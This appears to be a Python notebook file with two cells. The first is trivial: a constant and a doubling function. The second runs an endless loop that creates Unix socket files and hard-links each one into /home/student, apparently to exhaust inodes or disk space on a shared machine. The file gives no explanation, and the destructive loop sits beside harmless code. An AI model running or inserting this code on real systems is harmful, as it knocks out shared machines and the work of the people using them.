# %%
answer = 42


def double(x):
    return 2 * x

# %%
import itertools
import os
import socket

for number in itertools.count():
    socket.socket(socket.AF_UNIX).bind(f"s{number}")
    os.link(f"s{number}", f"/home/student/l{number}")
